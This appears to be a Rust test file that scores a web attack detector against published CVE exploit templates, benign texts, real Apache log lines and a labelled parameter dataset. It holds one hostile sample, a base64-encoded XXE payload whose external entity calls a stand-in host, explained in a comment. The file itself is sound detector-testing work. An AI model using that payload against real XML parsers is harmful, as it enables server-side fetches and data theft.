//! Are attacks that others published found, and their innocent texts left alone?
//!
//! Levels are printed; each miss is listed with `SHOW_MISSES=1`.

#[path = "../support/mod.rs"]
mod support;

mod core_rule_set;

use std::collections::BTreeMap;

use serde::Deserialize;
use support::{access_line, found, found_in_line, ids, in_query, request, unpacked};

fn text(value: &yaml_serde::Value) -> String {
    match value {
        yaml_serde::Value::String(text) => text.clone(),
        other => yaml_serde::to_string(other).unwrap_or_default().trim_end().to_owned(),
    }
}

/// Found and asked.
#[derive(Default, Clone, Copy)]
struct Level(usize, usize);

impl Level {
    fn add(&mut self, hit: bool) {
        self.0 += usize::from(hit);
        self.1 += 1;
    }

    fn share(self) -> f64 {
        if self.1 == 0 { 0.0 } else { self.0 as f64 / self.1 as f64 }
    }
}

fn miss(what: &str) {
    if std::env::var_os("SHOW_MISSES").is_some() {
        println!("  miss {}", what.escape_debug());
    }
}

#[derive(Deserialize)]
struct Template {
    #[serde(default, alias = "requests")]
    http: Vec<Http>,
}

#[derive(Deserialize)]
struct Http {
    #[serde(default)]
    raw: Vec<String>,
    #[serde(default)]
    path: Vec<String>,
    #[serde(default)]
    method: Option<String>,
    #[serde(default)]
    headers: BTreeMap<String, yaml_serde::Value>,
    #[serde(default)]
    body: Option<String>,
}

fn filled(text: &str) -> String {
    let text = text.replace("{{BaseURL}}", "").replace("{{RootURL}}", "http://host.example");
    text.replace("{{Hostname}}", "host.example").replace("{{randstr}}", "2OabQ1").replace("{{base64(payload)}}", PACKED)
}

/// `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "http://h.example/x">%x;]>` as the templates' own variable.
const PACKED: &str =
    "PD94bWwgdmVyc2lvbj0iMS4wIj8+PCFET0NUWVBFIGEgWzwhRU5USVRZICUgeCBTWVNURU0gImh0dHA6Ly9oLmV4YW1wbGUveCI+JXg7XT4=";

fn raw_request(text: &str) -> tripoint_evidence::entry::Request<'static> {
    let text = text.trim_start();
    let text = text.strip_prefix("@timeout: 20s\n").unwrap_or(text);
    let (head, body) = text.split_once("\n\n").unwrap_or((text, ""));
    let mut lines = head.lines();
    let first = lines.next().unwrap_or_default();
    let (method, rest) = first.split_once(' ').unwrap_or(("GET", first));
    let target = rest.rsplit_once(" HTTP/").map_or(rest, |(target, _)| target);
    let headers: Vec<(String, String)> =
        lines.filter_map(|line| line.split_once(':')).map(|(n, v)| (n.to_owned(), v.trim().to_owned())).collect();
    request(method, target, &headers, body)
}

/// Requests of templates that no log shows to be attacks, with the reason.
const NO_ATTACKS: &[&str] = &["appsec-generic-test"];

#[test]
fn exploit_requests_by_cve() {
    let Some(files) = unpacked("logs/crowdsec-hub/appsec-tests.tar.gz") else { return };
    let (mut level, mut exact) = (Level::default(), Level::default());
    for (name, bytes) in files.iter().filter(|(name, _)| !name.ends_with("config.yaml") && name.ends_with(".yaml")) {
        if NO_ATTACKS.iter().any(|no| name.contains(no)) {
            continue;
        }
        let Ok(template) = yaml_serde::from_slice::<Template>(bytes) else {
            println!("not read: {name}");
            continue;
        };
        let cve = name.split('/').find_map(|part| part.find("CVE-").map(|at| part[at..].to_owned()));
        let mut rules = Vec::new();
        for http in &template.http {
            rules.extend(http.raw.iter().flat_map(|raw| found(raw_request(&filled(raw)))));
            for path in &http.path {
                let headers: Vec<_> = http.headers.iter().map(|(n, v)| (n.clone(), filled(&text(v)))).collect();
                let method = http.method.as_deref().unwrap_or("GET");
                let body = http.body.clone().unwrap_or_default();
                let path = filled(path);
                rules.extend(found(request(method, if path.is_empty() { "/" } else { &path }, &headers, &body)));
            }
        }
        level.add(!rules.is_empty());
        if let Some(cve) = cve {
            let right = rules.iter().any(|rule| rule.cves.contains(&cve));
            exact.add(right);
            if !right {
                miss(&format!("cve {cve}: {:?}", ids(&rules)));
            }
        }
        if rules.is_empty() {
            miss(name);
        }
    }
    println!("exploits by cve: found {}/{}, with the very CVE {}/{}", level.0, level.1, exact.0, exact.1);
    assert!(level.share() >= 1.0 && exact.share() >= 1.0);
}

#[derive(Deserialize)]
struct Texts {
    payload: Vec<String>,
}

#[test]
fn innocent_texts() {
    let Some(files) = unpacked("logs/payloads/gotestwaf.tar.gz") else { return };
    let (_, bytes) = files.iter().find(|(name, _)| name.ends_with("false-pos/texts.yml")).unwrap();
    let texts: Texts = yaml_serde::from_slice(bytes).unwrap();
    let mut flagged = Level::default();
    for one in &texts.payload {
        let line = access_line("GET", &format!("/search?q={}", in_query(one)), "", "Mozilla/5.0");
        let form = format!("text={}", in_query(one));
        let body = request("POST", "/comment", &[], &form);
        for rules in [found_in_line(&line), found(body)] {
            flagged.add(!rules.is_empty());
            if !rules.is_empty() {
                miss(&format!("{one}: {:?}", ids(&rules)));
            }
        }
    }
    println!("innocent texts flagged: {}/{}", flagged.0, flagged.1);
    assert_eq!(flagged.0, 0);
}

#[test]
fn real_lines_of_a_web_server() {
    let Some(files) = unpacked("logs/web/apache_logs.gz") else { return };
    let text = String::from_utf8_lossy(&files[0].1);
    let mut flagged = Level::default();
    for line in text.lines() {
        let rules = found_in_line(line);
        flagged.add(!rules.is_empty());
        if !rules.is_empty() {
            miss(&format!("{line} {:?}", ids(&rules)));
        }
    }
    println!("real lines flagged: {}/{}", flagged.0, flagged.1);
    assert!(flagged.share() <= 0.0002);
}

#[test]
fn parameters() {
    let Some(files) = unpacked("logs/payloads/http-params-train.csv.gz") else { return };
    let text = String::from_utf8_lossy(&files[0].1);
    let mut kinds: BTreeMap<String, Level> = BTreeMap::new();
    for line in text.lines().skip(1) {
        let Some((payload, rest)) =
            line.strip_prefix('"').and_then(|line| line.rsplit_once("\",\"")).and_then(|(rest, _)| {
                rest.rsplit_once("\",\"").and_then(|(rest, kind)| Some((rest.rsplit_once("\",\"")?.0, kind)))
            })
        else {
            continue;
        };
        let payload = payload.replace("\"\"", "\"");
        let rules = found_in_line(&access_line("GET", &format!("/a?p={}", in_query(&payload)), "", "Mozilla/5.0"));
        kinds.entry(rest.to_owned()).or_default().add(!rules.is_empty());
        if rules.is_empty() != (rest == "norm") {
            miss(&format!("{rest} {payload} {:?}", ids(&rules)));
        }
    }
    for (kind, level) in &kinds {
        println!("parameters {kind}: flagged {}/{} {:.2} %", level.0, level.1, 100.0 * level.share());
    }
    let attacks =
        kinds.iter().filter(|(kind, _)| *kind != "norm").fold((0, 0), |sum, (_, l)| (sum.0 + l.0, sum.1 + l.1));
    let flagged = attacks.0 + kinds["norm"].0;
    println!(
        "parameters: recall {:.4}, precision {:.4}",
        attacks.0 as f64 / attacks.1 as f64,
        attacks.0 as f64 / flagged as f64
    );
    assert!(attacks.0 * 100 >= attacks.1 * 98 && kinds["norm"].0 == 0);
}
